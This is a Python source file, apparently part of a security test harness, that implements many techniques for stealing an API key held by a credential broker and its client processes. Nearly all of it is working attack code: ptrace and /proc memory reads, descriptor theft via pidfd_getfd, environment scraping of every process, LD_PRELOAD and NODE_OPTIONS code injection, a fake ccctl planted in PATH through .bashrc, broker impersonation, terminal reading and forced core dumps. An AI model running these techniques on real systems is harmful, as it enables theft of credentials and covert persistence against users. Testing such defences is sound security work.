"""Read: the key out of a process, a file, or the broker's mouth."""
import ctypes
import os
import re
import socket
import sys
import time
from pathlib import Path

import kit
import wire_client as wc
from kit import NotHere, call, dump, each, libc, read_through, say, show

PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE, PTRACE_INTERRUPT = 16, 17, 0x4206, 0x4207
REQUEST = b"GET /v1/models HTTP/1.1\r\nHost: ccrun.invalid\r\n\r\n"


def trace(pid, how, function):
    """function(pid) while we are its tracer."""
    call("ptrace", how, pid, 0, 0)
    if how == PTRACE_SEIZE:
        call("ptrace", PTRACE_INTERRUPT, pid, 0, 0)
    try:
        os.waitpid(pid, 0x40000000)
        function(pid)
    finally:
        libc.syscall(kit.NR["ptrace"], PTRACE_DETACH, pid, 0, 0)


def memory(pid):
    mem = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    try:
        read_through(mem, pid)
    finally:
        os.close(mem)


def ptrace_attach(s):
    each(s.holders, lambda pid: trace(pid, PTRACE_ATTACH, memory))


def ptrace_seize(s):
    each(s.holders, lambda pid: trace(pid, PTRACE_SEIZE, memory))


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def readv(pid):
    for low, size, _ in kit.ranges(pid):
        buffer = ctypes.create_string_buffer(size)
        mine, its = Part(ctypes.addressof(buffer), size), Part(low, size)
        n = libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(its), 1, 0)
        if n > 0:
            show(buffer.raw[:n])


def vm_readv(s):
    each(s.holders, readv)


def proc_mem(s):
    each(s.holders, memory)


def proc_environ(s):
    def look(pid):
        for leaf in ("environ", "cmdline", f"task/{pid}/environ"):
            show(Path(f"/proc/{pid}/{leaf}").read_bytes())
    each(s.holders, look)


def proc_files(s):
    """What the rest of /proc says: mappings, stacks, the auxiliary vector."""
    def look(pid):
        for leaf in ("auxv", "maps", "smaps", "stack", "syscall", "io", "timers", "personality", "fdinfo/3", "comm"):
            dump(f"/proc/{pid}/{leaf}")
        print(os.listdir(f"/proc/{pid}/map_files"))
    each(s.holders, look)


def proc_fd(s):
    """The files, pipes and memfds that it has open, through its own names for them."""
    def look(pid):
        for fd in os.listdir(f"/proc/{pid}/fd"):
            path = f"/proc/{pid}/fd/{fd}"
            try:
                got = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                show(os.read(got, 1 << 20))
                os.close(got)
            except OSError as e:
                print(path, e.strerror)
    each(s.holders, look)


def pidfd_getfd(s):
    """Its descriptors: the connection to the broker, the one to the provider, pipes."""
    def look(pid):
        pidfd = os.pidfd_open(pid)
        for fd in range(256):
            taken = libc.syscall(kit.NR["pidfd_getfd"], pidfd, fd, 0)
            if taken < 0:
                continue
            os.set_blocking(taken, False)
            try:
                if os.readlink(f"/proc/self/fd/{taken}").startswith("socket"):
                    with socket.socket(fileno=os.dup(taken)) as sock:
                        say(sock, REQUEST, 0.2)
                else:
                    show(os.pread(taken, 1 << 20, 0))
            except OSError as e:
                print(fd, e.strerror)
            os.close(taken)
        os.close(pidfd)
    each(s.holders, look)


def kcmp(s):
    """Whether one of its descriptors is one of ours: an oracle, where it answers."""
    def look(pid):
        print(pid, [call("kcmp", os.getpid(), pid, 0, 0, fd) for fd in range(8)])
    each(s.holders, look)


def perf(s):
    """Samples of its registers and its stack."""
    size = 128
    attr = bytearray(size)
    attr[0:4] = (1).to_bytes(4, "little")               # software events
    attr[4:8] = size.to_bytes(4, "little")
    attr[16:24] = (1000).to_bytes(8, "little")          # each of them
    attr[24:32] = (1 | 1 << 12 | 1 << 13).to_bytes(8, "little")
    attr[40:48] = (1 << 5 | 1 << 6).to_bytes(8, "little")
    block = (ctypes.c_char * size).from_buffer(attr)

    def look(pid):
        fd = call("perf_event_open", ctypes.byref(block), pid, -1, -1, 0)
        print(pid, "opened", os.read(fd, 4096))
    each(s.holders, look)


def gcore(s):
    """A debugger's dump; gdb is what people have."""
    if not os.access("/usr/bin/gcore", os.X_OK):
        raise NotHere("no gdb")
    pid = (s.relays or s.clients)[:1]

    def look(pid):
        s.run(f"cd $TMPDIR && timeout 10 gcore -o core.{s.technique} {pid} < /dev/null")
        for path in Path(os.environ.get("TMPDIR", "/tmp")).glob(f"core.{s.technique}*"):
            with open(path, "rb") as f:
                while part := f.read(1 << 22):
                    show(part)
            path.unlink()
    each(pid, look)


# ---- what a process of a session has by itself ----

def own_state(s):
    """Its own environment, arguments and descriptors, and those of what it descends from."""
    pid = os.getpid()
    while pid > 1:
        for leaf in ("environ", "cmdline"):
            dump(f"/proc/{pid}/{leaf}")
        found = re.search(r"^PPid:\s*(\d+)", Path(f"/proc/{pid}/status").read_text(), re.M)
        pid = int(found[1])
    s.run("env; set; ls -l /proc/self/fd")


def own_descriptors(s):
    """Every descriptor that it was left: read it, or talk to it."""
    del s
    for fd in range(3, 256):
        try:
            name = os.readlink(f"/proc/self/fd/{fd}")
            print(fd, name)
            os.set_blocking(fd, False)
            if name.startswith("socket"):
                with socket.socket(fileno=os.dup(fd)) as sock:
                    say(sock, REQUEST, 0.3)
            elif "loot" not in name:
                show(os.read(fd, 1 << 16))
        except OSError:
            continue


def everybodys_environ(s):
    """Environment and arguments of every process that may be looked at."""
    del s
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for leaf in ("environ", "cmdline"):
            try:
                show(Path(f"/proc/{pid}/{leaf}").read_bytes())
            except OSError:
                pass


def files(s):
    """Every file that it may read where programs leave something."""
    for top in (s.home, s.runtime, os.environ.get("TMPDIR", "/tmp"), "/dev/shm"):
        for where, dirs, names in os.walk(top):
            dirs[:] = [d for d in dirs if d not in ("node_modules", "loot")]
            for name in names:
                path = os.path.join(where, name)
                if os.path.isfile(path) and os.path.getsize(path) < 1 << 22:
                    dump(path)


# ---- the broker ----

def broker_get(s):
    """Every request whose answer could have it, by the raw protocol."""
    slot = {"slot": [wc.slot("recovery")], "key": b"k" * 32}
    for op, fields in {"get": {"name": s.entry}, "export": {}, "backup": slot, "keyfile": {}, "host": {},
                       "status": {}, "list": {"after": ""}, "slots": {}, "slot": {"id": 1}, "settings": {},
                       "match": {"name": s.entry, "token": b"x" * 20}, "sessions": {"after": ""},
                       "record": {"after": 0},
                       "slot-add": {**slot, "expect": 2}, "rekey": {"keys": b"", "key": b"k" * 32},
                       "rename": {"name": s.entry, "to": "mine"}, "source-take": {"name": s.entry},
                       "spent": {"after": ""}, "usage-next": {"name": s.entry, "kind": "zai"}}.items():
        try:
            s.ask(op, **fields)
        except (OSError, wc.Closed, AssertionError) as e:
            print(op, repr(e))


def broker_relay_words(s):
    """The words that a relay has for the broker, on the broker's own socket."""
    for op in ("value", "file", "start", "reserve", "use", "renew", "refusal", "wipe", "reserved"):
        try:
            s.ask(op, id=1, kind="session", model="m", bytes=1, index=0, count=1, limited=False, token=b"x" * 20)
        except (OSError, wc.Closed, AssertionError) as e:
            print(op, repr(e))


def open_another_way(s):
    """A session with the key in another place: the variable, the header, the delivery."""
    for more in ({"delivery": "env"}, {"delivery": "pipe"}, {"delivery": "preload"}, {"delivery": "auto"},
                 {"variable": "header:X-Echo"}, {"origin": s.origin.replace("bearer", "api-key")}):
        try:
            with s.broker() as c:
                print(more, c.raw(wc.request("open", **wc.open_fields(s.entry, **{
                    "origin": s.origin, "delivery": s.delivery, "ticket": s.ticket, "confine": s.confine, **more}))))
                print(c.raw(wc.request("pipe")))
        except (OSError, wc.Closed, AssertionError) as e:
            print(more, repr(e))


def open_and_claim(s):
    """What libccrun.so says, by a process that keeps its memory open."""
    with s.broker() as c:
        print(c.raw(wc.request("open", **wc.open_fields(s.entry, origin=s.origin, delivery="preload"))))
        wc.mark()
        wc.undumpable()
        print(c.arrived(), c.claim())


def ccctl_get(s):
    s.run("$CCCTL get $E; $CCCTL get $E --reveal; echo guess | $CCCTL get $E --reveal --passphrase-fd 0; "
          "echo guess | $CCCTL backup $HOME/b --passphrase-fd 0", E=s.entry)


def exec_session(s):
    """ccrun itself, told to start something else than the client."""
    s.run("$CCRUN --exec /usr/bin/env $E; "
          "$CCRUN --exec /bin/sh $E -c 'cat /proc/self/environ; env; ls -l /proc/self/fd'",
          E=s.entry)


def hide_from_mark(s):
    """The same in a user and pid namespace, after a double fork, with limits raised."""
    s.run("for how in 'unshare -Ur' 'unshare -Urpf' 'unshare -Urpfm --mount-proc' 'setsid -w' 'env -i' "
          "'prlimit --locks=unlimited' 'setpriv --no-new-privs'; do $how $CCCTL get $E --reveal; "
          "$how $CCRUN --exec /usr/bin/env $E; done", E=s.entry)


def vault_offline(s):
    """The vault's file, and every key that lies about."""
    s.run("cat $D/ccrun/vault $D/ccrun/* $S/ccrun/* /var/lib/ccrun/vaults/*/* /etc/machine-id", D=str(s.data),
        S=str(s.state))


def core_pattern(s):
    """Where the kernel sends what crashes."""
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/yama/ptrace_scope", "/proc/sys/fs/suid_dumpable"):
        try:
            Path(path).write_text("|/bin/false" if "pattern" in path else "0")
            print(path, "was written")
        except OSError as e:
            print(path, e.strerror)


def keyrings(s):
    """The kernel's keyrings, and the ones of others by their serial numbers."""
    s.run("cat /proc/keys /proc/key-users")
    for ring in range(-8, 0):
        buffer = ctypes.create_string_buffer(1 << 16)
        n = libc.syscall(kit.NR["keyctl"], 11, ring, buffer, len(buffer), 0)
        if n > 0:
            show(buffer.raw[:n])
            for at in range(0, n, 4):
                serial = int.from_bytes(buffer.raw[at:at + 4], "little")
                m = libc.syscall(kit.NR["keyctl"], 11, serial, buffer, len(buffer), 0)
                show(buffer.raw[:max(m, 0)])


def setns(s):
    """Into the namespaces of the processes that hold it."""
    def enter(pid):
        for name in ("user", "mnt", "pid", "net"):
            fd = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
            print(name, libc.syscall(kit.NR["setns"], fd, 0))
    each([*s.relays, *s.brokers], enter)


def root_links(s):
    """Their directories and programs by their names in /proc."""
    def look(pid):
        for leaf in ("cwd", "root", "exe"):
            print(leaf, os.readlink(f"/proc/{pid}/{leaf}"))
        show(Path(f"/proc/{pid}/exe").read_bytes()[:4096])
    each(s.holders, look)


# ---- the client made to talk ----

def inspector(s):
    """SIGUSR1 opens the debugger of a program on node."""
    each(s.clients, lambda pid: os.kill(pid, 10))
    time.sleep(0.3)
    for port in (9229, 6499, 9230):
        try:
            with socket.create_connection(("127.0.0.1", port), 0.5) as c:
                say(c, b"GET /json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", 0.5)
        except OSError as e:
            print(port, e)


def loaded_code(s):
    """Code loaded into a session of the attacker's own, and into its client."""
    code = s.out / "steal.js"
    code.write_text(f"require('fs').appendFileSync('{s.out}/loaded.js', JSON.stringify(process.env))\n")
    lib, kept = s.tools / "steal.so", s.out / "loaded.so"
    for name, value in {"LD_PRELOAD": lib, "LD_AUDIT": lib, "BUN_OPTIONS": f"--preload {code}",
                        "NODE_OPTIONS": f"--require {code}", "BUN_INSPECT": "127.0.0.1:0", "GCONV_PATH": s.tools,
                        "BUN_CONFIG_VERBOSE_FETCH": "curl", "LD_DEBUG": "all"}.items():
        s.run("timeout 3 $CCRUN $E --version; timeout 3 $CCRUN --exec /bin/sh $E -c 'env'", **{name: str(value)},
            E=s.entry,
              STEAL_TO=str(kept))
    dump(code.with_name("loaded.js"))
    dump(kept)


def traced_launch(s):
    """ccrun, started by a tracer that goes with it through every exec."""
    if s.plain:
        raise NotHere("no ccrun there")
    pid = os.fork()
    if pid == 0:
        call("ptrace", 0, 0, 0, 0)
        os.execv(s.ccrun, ["ccrun", "--exec", "/bin/sleep", s.entry, "2"])
    for _ in range(20):
        done, status = os.waitpid(pid, 0)
        if done != pid or not os.WIFSTOPPED(status):
            break
        try:
            memory(pid)
        except OSError as e:
            print(e.strerror)
        call("ptrace", 7, pid, 0, 0)


def terminal(s):
    """What the client's terminal shows and says: its device, tmux's copy, the consoles."""
    del s
    s_terminals = [p for p in Path("/dev/pts").iterdir() if p.name.isdigit() and os.access(p, os.R_OK)]
    for path in (*s_terminals, *Path("/dev").glob("vcs*")):
        try:
            if path.stat().st_uid != os.getuid():
                continue
            fd = os.open(path, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
            show(os.read(fd, 4096))
            os.close(fd)
        except OSError as e:
            print(path, e.strerror)


def kernel_eyes(s):
    """BPF programs, raw sockets, kernel memory, the message buffer, others' pages."""
    attempts = {"bpf": (321, 5, ctypes.create_string_buffer(120), 120), "syslog": (103, 3,
        ctypes.create_string_buffer(4096), 4096),
                "fanotify": (300, 0x0c, 0), "userfaultfd": (323, 0)}
    for name, (number, *args) in attempts.items():
        done = libc.syscall(number, *args)
        print(name, done, os.strerror(ctypes.get_errno()) if done < 0 else "")
    for path in ("/dev/mem", "/dev/kmem", "/proc/kcore", "/proc/kpageflags", "/sys/kernel/debug/tracing/trace_pipe",
                 "/dev/sda", "/dev/vda"):
        try:
            with open(path, "rb", buffering=0) as f:
                show(f.read(4096))
        except OSError as e:
            print(path, e.strerror)
    try:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as sock:
            sock.settimeout(1)
            show(sock.recv(65536))
    except OSError as e:
        print("AF_PACKET", e.strerror)
    each(s.holders, lambda pid: show(os.pread(os.open(f"/proc/{pid}/pagemap", os.O_RDONLY), 64, 0)))


def madvise(s):
    """Other processes' pages sent to swap."""
    def out(pid):
        pidfd = os.pidfd_open(pid)
        part = Part(0x400000, 4096)
        call("process_madvise", pidfd, ctypes.addressof(part), 1, 21, 0)
    each(s.holders, out)


def secret_service(s):
    """Items of the desktop's keyring, and the services on the buses."""
    s.needs("keyring")
    s.run("secret-tool search --all --unlock xdg:schema org.ccrun.VaultKey; busctl --user list; "
          "busctl --user tree org.freedesktop.secrets", DBUS_SESSION_BUS_ADDRESS=f"unix:path={s.runtime}/bus")


def crash(s):
    """Crash them, with core dumps allowed again, and look for what is left."""
    import resource  # pylint: disable=import-outside-toplevel
    for pid in s.holders:
        for how in (lambda p: resource.prlimit(p, resource.RLIMIT_CORE, (-1, -1)), lambda p: os.kill(p, 11)):
            try:
                how(pid)
            except OSError as e:
                print(pid, e.strerror)
    time.sleep(0.5)
    for top in {s.home, s.cwd, s.out, Path("/tmp"), Path("/var/lib/systemd/coredump"), Path("/var/crash")}:
        for path in top.glob("*core*"):
            dump(path) if path.is_file() else None


# ---- by who comes next ----

def race(*names, command=None):
    """An attack: a daemon that stops each process of these names in its first instant and
    opens its memory; it goes on reading when that has closed itself.  command(s): it writes
    instead, and makes each execute that."""
    def act(s):
        more = {"env": {**os.environ, "RACER_COMMAND": command(s)}} if command else {}
        place = Path(s.ccrun).parent.parent
        # The loader opens it when nothing of it has run.
        watched = place / "lib/ccrun/libccrun.so"
        paths = {"victim": s.tools / "victim", "ccctl": s.ccctl, "ccrun": s.ccrun}
        for name in names:
            path = paths.get(name, place / "libexec/ccrun" / name)
            into = f"{s.won}.{name}"
            words = f"{s.tools}/racer {path} {into} {watched if name == 'victim' else ''} > {into}.said"
            # It reports when it is told, and goes on so long that its report is read.
            told = f"while [ ! -e {s.out}/go.race ]; do sleep 0.02; done; echo; sleep 9"
            kit.detach(["sh", "-c", f"{{ {told}; }} | {words}; touch {s.out}/raced"], **more)
            kit.until(lambda i=into: Path(f"{i}.said").exists() and Path(f"{i}.said").read_text().startswith("ready"))
    return act


def as_client(s):
    """Shell words of a client that became the attacker's: its descriptors are the client's."""
    return f"exec {sys.executable} {s.kit}/as_client.py {s.path} {s.technique} > {s.won}.client 2>&1"


def fake_broker(s):
    """Kill the broker, take its place, and hear what people tell it."""
    if s.plain:
        raise NotHere("no broker there")
    for pid in s.brokers:
        os.kill(pid, 9)
    time.sleep(0.3)
    kit.detach([sys.executable, s.lib / "attack_broker.py", s.socket, s.won, "locked", "hide"])
    if not kit.until(s.won.exists, 3):
        raise PermissionError(1, "the broker's place cannot be taken")


def read_terminal(how):
    """An attack: a daemon that reads the terminal on which a passphrase is typed."""
    return lambda s: kit.detach([sys.executable, s.kit / "terminal_reader.py", how, s.out / "terminal", s.won])


def plant_ccctl(s):
    """Another ccctl before the true one in PATH."""
    if s.plain:
        raise NotHere("no ccrun there")
    where = s.home / "bin"
    where.mkdir(exist_ok=True)
    (where / "ccctl").write_text(f"#!/bin/sh\ntee {s.won} | {s.ccctl} \"$@\"\n")
    (where / "ccctl").chmod(0o755)
    with open(s.home / ".bashrc", "a") as f:
        f.write(f"PATH={where}:$PATH\n")




def heap_dump(s):
    """What keeps the client from writing its memory to a file, undone in the settings; and
    typed, where the kernel lets it."""
    from redirecting import settings  # pylint: disable=import-outside-toplevel
    settings(s, {"env": {"CLAUDE_CODE_HOST_AUTH_ENV_VAR": "", "CLAUDE_CODE_HOST_CREDS_FILE": "",
                         "BUN_OPTIONS": "--heap-prof", "NODE_OPTIONS": "--heapsnapshot-signal=SIGUSR2"}})
